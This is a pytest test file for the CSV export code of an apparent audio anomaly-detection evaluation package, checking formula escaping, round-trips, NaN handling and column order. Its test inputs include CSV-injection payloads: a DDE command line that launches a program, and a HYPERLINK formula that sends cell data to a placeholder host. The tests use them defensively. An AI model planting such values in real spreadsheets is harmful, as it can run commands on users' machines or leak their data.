"""The tables of a run, as text and as a spreadsheet reads them."""

import csv
import io
import math
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gammavae_jax.evaluation.csv_files import (
    ClipRow,
    clips_csv,
    escape_formula,
    read_clips_csv,
    read_results_csv,
    results_csv,
    unescape_formula,
)
from gammavae_jax.evaluation.metrics import Row

FORMULAS = [
    *(f"{sign}1+1" for sign in "=+-\uff1d\uff0b\uff0d\uff20"),
    *("@SUM(1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"),
    '=HYPERLINK("http://x/?"&A1,"y")',
]
BEGINS = re.compile("[=+\\-@\uff1d\uff0b\uff0d\uff20\t\r\n]")
# Most characters are those that matter here.
texts = (
    st.text(st.sampled_from("=+-@';\t\r\n\",a \uff1d\uff0b\uff0d\uff20"), max_size=12)
    | st.text()
)


@given(texts)
def test_any_text_survives_escaping_and_hides_no_formula(text):
    cell = escape_formula(text)
    assert unescape_formula(cell) == text
    parts = re.split("[;\t\r\n]", cell)
    assert not any(part and BEGINS.match(part) for part in parts)


@pytest.mark.parametrize("name", ["fan", "section_00_0001.wav", "a=b", "x - y", "'a'"])
def test_other_texts_are_not_changed(name):
    assert escape_formula(name) == unescape_formula(name) == name


def clip_row(machine, clip, score):
    return ClipRow(1, "mse", machine, "00", clip, score, None, 0)


# Names have no line breaks: see `score_files.require_names`.
@pytest.mark.parametrize("formula", [f for f in FORMULAS if "\r" not in f])
def test_tables_escape_formulas_in_names_and_keep_numbers(tmp_path, formula):
    rows = [clip_row(formula, f"{formula}.wav", -1.5)]
    (line,) = csv.DictReader(io.StringIO(clips_csv(rows), newline=""))
    assert not BEGINS.match(line["machine"])
    assert not BEGINS.match(line["clip"])
    assert line["anomaly_score"] == "-1.5"
    result = Row(1, "mse", formula, "00", *[-0.5] * 13)
    (line,) = csv.DictReader(io.StringIO(results_csv([result]), newline=""))
    assert not BEGINS.match(line["machine"])
    assert line["auc_source"] == "-0.5"


finite = st.floats(allow_nan=False, allow_infinity=False)
names_of_clips = st.text(
    st.characters(exclude_categories=("Cs", "Cc", "Zl", "Zp")), max_size=20
)


@given(st.lists(st.tuples(names_of_clips, names_of_clips, finite), max_size=5))
def test_clips_csv_reads_back_unchanged(tmp_path_factory, cells):
    rows = [clip_row(machine, clip, score) for machine, clip, score in cells]
    path = tmp_path_factory.mktemp("table") / "clips.csv"
    path.write_text(clips_csv(rows), encoding="utf-8", newline="")
    assert read_clips_csv(path) == rows


@given(st.lists(st.tuples(names_of_clips, finite), max_size=5))
def test_results_csv_reads_back_unchanged(cells):
    rows = [Row(3, "mse", name, "00", *[value] * 13) for name, value in cells]
    assert read_results_csv(results_csv(rows)) == rows


ROWS = [
    ClipRow(7, "mse", "fan", "00", "section_00_vel, 1.wav", 1.5, 0.25, 0),
    ClipRow(7, "mse", "fan", "00", 'a "b".wav', 0.1 + 0.2, None, 1),
]


def test_clips_csv_has_a_header_and_one_line_per_clip():
    lines = clips_csv(ROWS).split("\n")
    assert lines == [
        "seed,score,machine,section,clip,anomaly_score,p_value,decision",
        '7,mse,fan,00,"section_00_vel, 1.wav",1.5,0.25,0',
        '7,mse,fan,00,"a ""b"".wav",0.30000000000000004,,1',
        "",
    ]


COLUMNS = (
    "seed,score,machine,section,auc_source,auc_target,pauc,auc,"
    "precision_source,precision_target,recall_source,recall_target,"
    "f1_source,f1_target,threshold,fpr_source,fpr_target"
)


def row(machine="fan", **values) -> Row:
    """Return a row whose values are 0.5, except for the given ones."""
    return Row(1, "mse", machine, "00", *[0.5] * 13)._replace(**values)


def test_tables_without_rows_are_a_header():
    assert clips_csv([]).count("\n") == 1
    assert results_csv([]) == COLUMNS + "\n"


def test_results_csv_has_its_columns_in_order_and_leaves_nan_empty():
    text = results_csv([row(threshold=2.5, auc_source=0.1, fpr_target=math.nan)])
    assert text == f"{COLUMNS}\n1,mse,fan,00,0.1{',0.5' * 9},2.5,0.5,\n"


def test_results_csv_with_nan_reads_back_unchanged():
    rows = [row("fan, one", auc=1 / 3), row(seed=2, auc_target=math.nan)]
    assert read_results_csv(results_csv([])) == []
    # Compared as text, because NaN does not equal itself.
    assert repr(read_results_csv(results_csv(rows))) == repr(rows)


@pytest.mark.parametrize(
    "text", ["a,b\n1,2\n", COLUMNS + "\n1,mse,fan,00,x" + ",0" * 12]
)
def test_other_tables_are_not_read_as_results(text):
    with pytest.raises(ValueError):  # noqa: PT011
        read_results_csv(text)
